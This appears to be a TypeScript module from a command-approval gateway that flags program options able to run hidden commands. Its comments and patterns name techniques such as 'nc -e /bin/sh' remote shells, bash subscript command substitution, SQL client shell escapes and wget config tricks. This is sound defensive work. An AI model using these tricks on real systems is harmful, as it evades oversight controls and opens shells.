/**
 * Options and arguments of everyday programs that run commands the gateway cannot see (red-team
 * findings, issue 14). Each makes the command `unknown` (refused wherever a deny or approve rule
 * could have matched):
 * - `nc -e PROG`/`-c CMD` (traditional netcat) runs a program for the connection;
 * - `zip -T -TT CMD` / `--unzip-command CMD` runs CMD through the shell to test the archive;
 * - `man -P/--pager CMD`, `man -H/--html=BROWSER`, `man --preprocessor` run CMD;
 * - `less +CMD`/`-k` and `more +CMD` run less commands (`!cmd` is a shell escape) at start;
 * - `sqlite3` runs commands (`.shell`, `.system`) and writes any file (ATTACH, VACUUM INTO): always;
 * - `psql` and `mysql`/`mariadb` are command interpreters of their own with a shell escape (`\! cmd`,
 *   mysql `system cmd`) and file writers (`\o FILE`, `\copy … to`, `tee FILE`): unknown unless the
 *   statements are on the command line (`-c`/`-e`) and hold no client command; they read stdin
 *   (`psql < x.sql`) or a file (`-f`, `source`) otherwise;
 * - `cpio --rsh-command CMD` runs CMD to reach a remote archive;
 * - bash builtins that take a variable name evaluate an array subscript in it, which runs command
 *   substitutions: `test -v 'a[$(cmd)]'`, `printf -v 'a[$(cmd)]'`, `declare -n r='a[$(cmd)]'`,
 *   `read 'a[$(cmd)]'`, `unset 'a[$(cmd)]'`.
 */
import type { ShellWord } from "./types.ts";

/** A word that names a bash array element whose subscript expands something (`a[$(…)]`, a[`…`]). */
const SUBSCRIPT_CODE = /[A-Za-z_][A-Za-z0-9_]*\[[^\]]*[$`]/;
/** Builtins whose operands are variable names. */
const NAME_BUILTINS = new Set(["read", "unset", "declare", "typeset", "local", "export", "readonly", "wait", "mapfile", "readarray", "getopts"]);

export function hiddenCodeIn(name: string, args: ShellWord[]): string | null {
  const words = args.map((a) => a.value);
  const names = (ws: ShellWord[]) => ws.some((a) => SUBSCRIPT_CODE.test(a.value) || (a.dynamic && !a.value.startsWith("-")));
  const namesCode =
    (NAME_BUILTINS.has(name) && names(args)) ||
    ((name === "test" || name === "[" || name === "[[") && words.some((w) => w === "-v" || w === "-R") && names(args.filter((a) => a.value !== "]" && a.value !== "]]"))) ||
    (name === "printf" && args.some((a, i) => /^-[A-Za-z]*v$/.test(a.value) && args[i + 1] && names([args[i + 1]!])));
  if (namesCode) return `${name} evaluates the array subscript in a variable name (a[$(…)] runs commands)`;
  switch (name) {
    case "nc":
    case "netcat":
    case "nc.traditional":
    case "nc.openbsd":
      // Traditional netcat runs a program per connection (`nc -e /bin/sh host port`: a remote shell).
      if (args.some((a) => a.dynamic || /^-[A-Za-z]*[ec]/.test(a.value))) return `${name} -e/-c runs a program for the connection`;
      return null;
    case "rsync":
      // To or from another host (`host:path`, `rsync://`), rsync runs ssh or talks to a daemon: what happens there is not visible.
      if (args.some((a) => !a.value.startsWith("-") && (/^[^/=]*[^\\/]:/.test(a.value) || a.value.startsWith("rsync://")) && !args.some((x) => x.value === "--server"))) return "rsync to or from another host runs ssh there";
      return null;
    case "zip":
      if (words.some((w) => /^(-TT|--unzip-command)/.test(w) || /^-[A-Za-z]*TT/.test(w))) return "zip -TT runs a command to test the archive";
      return null;
    case "man":
      if (words.some((w) => /^(-[A-Za-z]*[PHp]|--pager|--html|--preprocessor|--config-file|-C)/.test(w))) return "man with a pager, browser or preprocessor runs that program";
      return null;
    case "less":
    case "more":
      if (words.some((w) => w.startsWith("+") || /^(-[A-Za-z]*k|--lesskey)/.test(w))) return `${name} with start-up commands can run a shell`;
      return null;
    case "sort": {
      // --compress-program=PROG (any unique prefix from --co) runs PROG on the data being sorted:
      // `sort -S 1K --compress-program=sh` feeds the input lines to a shell. A word that may expand
      // to an option may be it.
      if (longOptionIn(args, "compress-program", 2)) return "sort --compress-program runs a program on the data it sorts";
      return null;
    }
    case "install":
      // --strip-program=PROG runs PROG on each installed file (`--strip-program=sh` runs it as a script).
      if (longOptionIn(args, "strip-program", 6)) return "install --strip-program runs a program on the installed files";
      return null;
    case "sdiff":
    case "diff3":
      // --diff-program=PROG runs PROG; sdiff -o merges interactively, reading its commands (and
      // what it writes) from standard input.
      if (longOptionIn(args, "diff-program", 1)) return `${name} --diff-program runs a program`;
      if (name === "sdiff" && args.some((a) => /^-[A-Za-z]*o/.test(a.value) || isLongPrefix(a.value, "output", 3))) return "sdiff -o reads its merge commands from standard input and writes what they choose";
      return null;
    case "psql":
      return sqlClientCode(name, args, PSQL);
    case "mysql":
    case "mariadb":
      if (args.some((a) => MYSQL_LOADS.test(a.value))) return `${name} with an option that loads a library or other options`;
      return sqlClientCode(name, args, MYSQL);
    case "wget": {
      // -e/--execute runs wgetrc commands (output_document=~/.bashrc, dir_prefix=…, use_askpass=CMD
      // runs CMD), as does a --config file; --use-askpass=CMD runs CMD.
      const e = args.some((a) => {
        const w = a.value;
        if (w.startsWith("--")) return isLongPrefix(w, "execute", 3) || isLongPrefix(w, "use-askpass", 3) || isLongPrefix(w, "config", 3);
        // A short cluster up to its first letter that takes a value (`-qe CMD`, `-qO- -e CMD`).
        const m = /^-([A-Za-z]*)/.exec(w);
        const letters = m?.[1] ?? "";
        const v = [...letters].findIndex((l) => WGET_VALUES.includes(l));
        return v >= 0 && letters[v] === "e";
      });
      return e ? "wget runs wgetrc commands (-e/--execute, --config) or a program (--use-askpass)" : null;
    }
    case "cpio":
    case "bsdcpio":
      if (longOptionIn(args, "rsh-command", 3)) return `${name} --rsh-command runs a program`;
      return null;
    case "sqlite3":
      // `.shell`/`.system` run commands, ATTACH/VACUUM INTO/.output write any file, SQL may come from stdin.
      return "sqlite3 can run commands (.shell, .system) and write any file (ATTACH, VACUUM INTO, .output)";
  }
  return null;
}

/** How a SQL client's command line is read (getopt: value letters take the rest of the word or the next one). */
interface SqlClient {
  /** The option whose value is statements: short letter and long name. */
  command: [string, string];
  /** Options naming a script file (their statements, client commands included, are not visible). */
  file: [string, string] | null;
  /** Short options taking a value; `optional` ones take only an attached value (`-pSECRET`). */
  values: string;
  optional: string;
  /** Long options without a value; any other long option without `=` is taken to consume the next word. */
  flags: RegExp;
  /** Options that run nothing and read no input (listing databases, version, help): short letters, long names. */
  info: [string, string[]];
  /** A statement text holding a client command spelled without a backslash. */
  clientCommand: (text: string) => boolean;
}

const PSQL: SqlClient = {
  command: ["c", "command"], file: ["f", "file"], values: "cdfFhLopPRTUv", optional: "",
  flags: /^(echo-(all|errors|queries|hidden)|html|list|no-readline|single-(transaction|step|line)|quiet|tuples-only|expanded|no-psqlrc|no-align|csv|no-password|password|(field|record)-separator-zero|version|help)$/,
  info: ["lV?", ["list", "version", "help"]],
  clientCommand: () => false,
};
const MYSQL: SqlClient = {
  command: ["e", "execute"], file: null, values: "DehPSu", optional: "p#",
  flags: /^((skip|disable|enable|no)-.*|batch|silent|raw|table|vertical|force|quick|unbuffered|verbose|xml|html|column-names|line-numbers|show-warnings|compress|version|help)$/,
  info: ["V?", ["version", "help"]],
  // A line (or statement) starting with a client command's long name runs it: `system cmd`, `tee
  // FILE`, `source FILE`, `edit`, `pager cmd`.
  clientCommand: (text) => text.split(/[;\n]/).some((s) => /^\s*(system|tee|source|edit|pager|nopager|notee|connect|charset|delimiter)\b/i.test(s)),
};
/** mysql options that load code or other options: a shared library, option files, a pager. */
const MYSQL_LOADS = /^--(plugin|default-auth|defaults|login-path|pager|init-command|load-data-local-dir)/;

/**
 * psql/mysql: statements only from `-c`/`-e` (`-cTEXT`, `-Ac TEXT`, `--command=TEXT`, `--comm
 * TEXT`), none holding a backslash (every client command has a backslash form: `\!`) or a
 * backquote (psql runs `\`cmd\`` in variables), no script file, no word only known on the host
 * (it may be any option). Without statements on the command line the client reads its standard input.
 */
function sqlClientCode(name: string, args: ShellWord[], c: SqlClient): string | null {
  const why = `${name} runs client commands (\\! and its kin run a shell, others write files) from`;
  if (args.some((a) => a.dynamic)) return `${why} a word only known on the host`;
  if (args.some((a) => /[\\`]/.test(a.value))) return `${why} its command line`;
  const texts: string[] = [];
  let file = false;
  let info = false;
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!.value;
    if (w === "--") break;
    if (w.startsWith("--")) {
      const eq = w.indexOf("=");
      const key = w.slice(2, eq < 0 ? undefined : eq);
      const value = eq < 0 ? args[i + 1]?.value : w.slice(eq + 1);
      const is = (long: string) => key.length >= 2 && long.startsWith(key);
      if (c.info[1].some(is)) info = true;
      if (is(c.command[1])) texts.push(value ?? "");
      else if (c.file && is(c.file[1])) file = true;
      if (eq < 0 && !c.flags.test(key)) i++;
      continue;
    }
    if (!w.startsWith("-") || w === "-") continue;
    for (let j = 1; j < w.length; j++) {
      const l = w[j]!;
      if (c.info[0].includes(l)) info = true;
      if (c.optional.includes(l)) break;
      if (!c.values.includes(l)) continue;
      const value = j + 1 < w.length ? w.slice(j + 1) : args[++i]?.value;
      if (l === c.command[0]) texts.push(value ?? "");
      if (c.file && l === c.file[0]) file = true;
      break;
    }
  }
  if (file) return `${why} a script file`;
  if (texts.length === 0) return info ? null : `${why} its standard input`;
  if (texts.some(c.clientCommand)) return `${why} its command line`;
  return null;
}

/** wget short options taking a value. */
const WGET_VALUES = "oaiBetOwTQUPlARDIX";

/** `--NAME` (`isLongPrefix`) among the arguments, or a word starting with an expansion that may be it. */
function longOptionIn(args: ShellWord[], name: string, min: number): boolean {
  return args.some((a) => (a.dynamic && /^[$`]/.test(a.value)) || isLongPrefix(a.value, name, min));
}

/** `--NAME[=value]` written as a GNU getopt_long unique prefix of NAME, at least `min` characters long. */
function isLongPrefix(word: string, name: string, min: number): boolean {
  if (!word.startsWith("--")) return false;
  const key = word.slice(2).split("=")[0]!;
  return key.length >= min && name.startsWith(key);
}
